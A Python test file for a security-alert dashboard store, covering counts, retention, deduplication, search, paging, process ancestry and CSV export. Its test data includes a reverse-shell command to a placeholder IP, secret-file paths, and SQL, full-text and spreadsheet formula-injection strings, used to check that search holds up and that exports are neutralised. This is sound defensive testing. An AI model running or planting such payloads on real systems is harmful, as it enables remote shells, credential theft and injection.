"""The UI store: dashboard numbers read from the count cubes must equal what the raw alerts say, for any range
and filter, before and after retention; search must find what users type; pages must not skip or repeat."""

from __future__ import annotations

import csv
import io
import random
from collections import Counter
from pathlib import Path
from typing import Any

import pytest

from outputs.ui import queries
from outputs.ui.alert_row import PRIORITIES, alert_to_row, parse_time_ns
from outputs.ui.ancestry import process_ancestry
from outputs.ui.demo import synthetic_alert, synthetic_alerts
from outputs.ui.export import csv_cell, csv_chunks
from outputs.ui.store import NS, AlertStore, Retention, connect
from schemas.codec import DecodeError

NOW = 1_750_000_000 * NS + 123_456_789  # fixed, deliberately not aligned to any minute


@pytest.fixture(scope="module")
def alerts() -> list[dict[str, Any]]:
    return list(synthetic_alerts(4000, NOW - 3 * 86400 * NS, NOW, seed=3, hosts=12))


def _store(tmp_path: Path, alerts: list[dict[str, Any]], retention: Retention | None = None) -> AlertStore:
    store = AlertStore(tmp_path / "alerts.db", retention or Retention(days=3650, max_rows=10**9))
    for i in range(0, len(alerts), 500):
        store.insert(alert_to_row(a) for a in alerts[i:i + 500])
    return store


def _matches(a: dict[str, Any], f: queries.AlertFilter) -> bool:
    return (f.start_ns <= parse_time_ns(a["time"]) < f.end_ns
            and (not f.priorities or PRIORITIES.index(a["priority"]) in f.priorities)
            and (not f.rules or a["rule"] in f.rules) and (not f.hostnames or a["hostname"] in f.hostnames)
            and (not f.sources or a["source"] in f.sources) and (not f.tags or bool(set(a["tags"]) & set(f.tags))))


def _expected(alerts: list[dict[str, Any]], f: queries.AlertFilter) -> dict[str, Counter[str]]:
    out: dict[str, Counter[str]] = {d: Counter() for d in queries.DIMENSIONS}
    for a in alerts:
        if _matches(a, f):
            for d in ("priority", "rule", "hostname", "source"):
                out[d][a[d]] += 1
            out["tag"].update(a["tags"])
    return out


def _got(conn: Any, f: queries.AlertFilter) -> dict[str, Counter[str]]:
    by = queries.counts(conn, f, top=1000)["by"]
    return {d: Counter({v["value"]: v["count"] for v in by[d]["values"]}) for d in queries.DIMENSIONS}


def _random_filters(alerts: list[dict[str, Any]], rng: random.Random, n: int) -> list[queries.AlertFilter]:
    rules = sorted({a["rule"] for a in alerts})
    hosts = sorted({a["hostname"] for a in alerts})
    tags = sorted({t for a in alerts for t in a["tags"]})
    out = []
    for i in range(n):
        start = NOW - rng.randrange(1, 4 * 86400) * NS - rng.randrange(NS)
        end = min(NOW + NS, start + rng.choice([90, 3700, 86400 + 61, 3 * 86400]) * NS + rng.randrange(NS))
        kind = i % 6
        out.append(queries.AlertFilter(
            start, end,
            priorities=tuple(sorted(rng.sample(range(8), 3))) if kind == 1 else (),
            rules=tuple(rng.sample(rules, 2)) if kind == 2 else (),
            hostnames=(rng.choice(hosts),) if kind == 3 else (),
            tags=tuple(rng.sample(tags, 1 if kind == 4 else 2)) if kind >= 4 else (),
            sources=("syscall",) if kind == 5 else ()))
    return out


def test_dashboard_counts_and_timeline_equal_the_raw_alerts_for_any_range_and_filter(tmp_path, alerts):
    store = _store(tmp_path, alerts)
    conn = connect(store.path, readonly=True)
    for f in _random_filters(alerts, random.Random(5), 36):
        expected = _expected(alerts, f)
        assert _got(conn, f) == expected, f
        tl = queries.timeline(conn, f)
        assert sum(map(sum, tl["series"].values())) == sum(expected["priority"].values()), f
        per_prio = {p: sum(v) for p, v in tl["series"].items()}
        assert per_prio == dict(expected["priority"]), f
    # a bucket of the timeline holds exactly the alerts whose time falls in it
    f = queries.AlertFilter(NOW - 6 * 3600 * NS, NOW)
    tl = queries.timeline(conn, f, step=600)
    in_bucket = sum(1 for a in alerts if tl["start"] + 10 * 600 <= parse_time_ns(a["time"]) // NS < tl["start"] + 11 * 600
                    and _matches(a, f))
    assert sum(v[10] for v in tl["series"].values()) == in_bucket


def test_retention_drops_oldest_and_counts_stay_exact(tmp_path, alerts):
    store = _store(tmp_path, alerts, Retention(days=2, max_rows=1500))
    deleted = store.prune(now_ns=NOW, chunk=400)
    conn = connect(store.path, readonly=True)
    kept = sorted(alerts, key=lambda a: parse_time_ns(a["time"]))[-1500:]
    assert deleted == len(alerts) - 1500
    assert conn.execute("SELECT count(*) AS n FROM alerts").fetchone()["n"] == 1500
    everything = queries.AlertFilter(0, NOW + NS)
    assert _got(conn, everything) == _expected(kept, everything)
    assert queries.events(conn, queries.AlertFilter(0, NOW + NS, text="shadow"), 1)["total"] == \
        sum("shadow" in a["output"] for a in kept)
    # the time bound: nothing older than 2 days survives
    store.retention = Retention(days=1, max_rows=10**9)
    store.prune(now_ns=NOW)
    oldest = conn.execute("SELECT min(ts) AS t FROM alerts").fetchone()["t"]
    assert oldest >= NOW - 86400 * NS
    day = queries.AlertFilter(NOW - 2 * 86400 * NS, NOW + NS)
    assert _got(conn, day) == _expected([a for a in kept if parse_time_ns(a["time"]) >= NOW - 86400 * NS], day)


def test_same_uuid_is_stored_once(tmp_path, alerts):
    store = _store(tmp_path, alerts[:100])
    again = store.insert(alert_to_row(a) for a in alerts[50:150] + alerts[140:150])
    assert (again.received, again.inserted) == (110, 50)
    conn = connect(store.path, readonly=True)
    assert queries.counts(conn, queries.AlertFilter(0, NOW + NS))["total"] == 150


def test_search_finds_paths_commands_and_prefixes_and_never_raises(tmp_path, alerts):
    rng = random.Random(9)
    special = [synthetic_alert(rng, NOW - i * NS, 10_000 + i, hostile=h) for i, h in enumerate(
        ['/var/run/secrets/kubernetes.io/serviceaccount/token', 'nc -e /bin/sh 203.0.113.9 4444',
         '"; DROP TABLE alerts; --', 'x" OR 1=1 NEAR(a b) ^col:*'])]
    store = _store(tmp_path, alerts + special)
    conn = connect(store.path, readonly=True)
    week = queries.AlertFilter(0, NOW + NS)

    def search(text: str) -> list[str]:
        f = queries.AlertFilter(week.start_ns, week.end_ns, text=text)
        return [e["uuid"] for e in queries.events(conn, f, 1000)["events"]]

    assert search("/var/run/secrets/kubernetes.io/serviceaccount/token") == [special[0]["uuid"]]
    assert search("203.0.113.9") == [special[1]["uuid"]]
    assert search("serviceacc*") == [special[0]["uuid"]]
    assert set(search("DROP TABLE")) == {special[2]["uuid"]}
    for hostile in ['"', 'AND OR NOT', '(', '*', 'NEAR(', '^col:*', "'", '""', '-', "x\" OR 1=1 NEAR(a b) ^col:*"]:
        search(hostile)  # no FTS5 syntax error reaches the user
    assert search("x\" OR 1=1") == [special[3]["uuid"]]
    shadow = [a["uuid"] for a in sorted(alerts + special, key=lambda a: a["time"], reverse=True)
              if "shadow" in a["output"].lower().replace("/", " ").split() or "/etc/shadow" in a["output"]]
    assert set(search("shadow")) >= set(shadow[:1000])


def test_event_pages_walk_every_match_newest_first_once(tmp_path, alerts):
    store = _store(tmp_path, alerts)
    conn = connect(store.path, readonly=True)
    f = queries.AlertFilter(NOW - 2 * 86400 * NS, NOW, tags=("container",), priorities=(4, 5))
    seen: list[dict[str, Any]] = []
    cursor = None
    while True:
        page = queries.events(conn, f, 97, cursor)
        seen += page["events"]
        cursor = page["next"]
        if not cursor:
            break
    expected = sorted((a for a in alerts if _matches(a, f)), key=lambda a: a["time"], reverse=True)
    assert [e["uuid"] for e in seen] == [a["uuid"] for a in expected]
    assert page["total"] == len(expected)
    full = queries.event(conn, expected[0]["uuid"])
    assert full == expected[0]


def test_alert_without_required_fields_is_rejected_with_the_field_name():
    with pytest.raises(DecodeError, match="'rule'"):
        alert_to_row({"uuid": "u", "time": "2024-01-01T00:00:00.000000000Z", "priority": "Error"})
    with pytest.raises(DecodeError, match="priority"):
        alert_to_row({"uuid": "u", "time": "2024-01-01T00:00:00.000000000Z", "priority": "Loud", "rule": "r"})
    with pytest.raises(DecodeError, match="time"):
        alert_to_row({"uuid": "u", "time": "yesterday", "priority": "Error", "rule": "r"})


def test_process_ancestry_is_a_chain_from_the_process_up():
    chain = process_ancestry({"proc.name": "nc", "proc.pid": 42, "proc.cmdline": "nc -e /bin/sh h 1",
                              "proc.pname": "bash", "proc.ppid": 41, "proc.aname[2]": "sshd",
                              "proc.aname[3]": "systemd", "proc.apid[3]": 1, "fd.name": "/x"})
    assert [(p["level"], p.get("name"), p.get("pid")) for p in chain] == \
        [(0, "nc", 42), (1, "bash", 41), (2, "sshd", None), (3, "systemd", 1)]
    assert process_ancestry({"fd.name": "/etc/shadow"}) == []


def test_csv_export_cells_cannot_become_spreadsheet_formulas():
    rows = [{"time": "t", "priority": "Error", "rule": "=HYPERLINK(\"http://x\")", "hostname": "+cmd|' /C calc'!A0",
             "source": "-2+3", "tags": ["@SUM(A1)"], "output": "\tTAB", "uuid": "u",
             "output_fields": {"proc.cmdline": "=1+1"}}]
    text = b"".join(csv_chunks(rows)).decode()
    record = list(csv.DictReader(io.StringIO(text)))[0]
    for col in ("rule", "hostname", "source", "tags", "output"):
        assert record[col].startswith("'"), (col, record[col])
    assert csv_cell("plain") == "plain" and csv_cell("-") == "'-"
    assert record["output_fields"] == '{"proc.cmdline":"=1+1"}'


def test_common_term_search_pages_like_a_rare_one_and_caps_its_total(tmp_path, alerts, monkeypatch):
    store = _store(tmp_path, alerts)
    conn = connect(store.path, readonly=True)
    f = queries.AlertFilter(0, NOW + NS, text="container", hostnames=("node-00.prod.example", "node-01.prod.example"))
    monkeypatch.setattr(queries, "COMMON_TERM", 10**9)
    by_matches = queries.events(conn, f, 60)
    monkeypatch.setattr(queries, "COMMON_TERM", 1)
    by_time_index = queries.events(conn, f, 60)
    assert by_matches["events"] == by_time_index["events"] and len(by_matches["events"]) == 60
    assert by_matches["total_exact"] and by_matches["total"] == queries.total(conn, f)
    monkeypatch.setattr(queries, "TEXT_TOTAL_CAP", 10)
    capped = queries.events(conn, f, 5)
    assert (capped["total"], capped["total_exact"]) == (10, False)
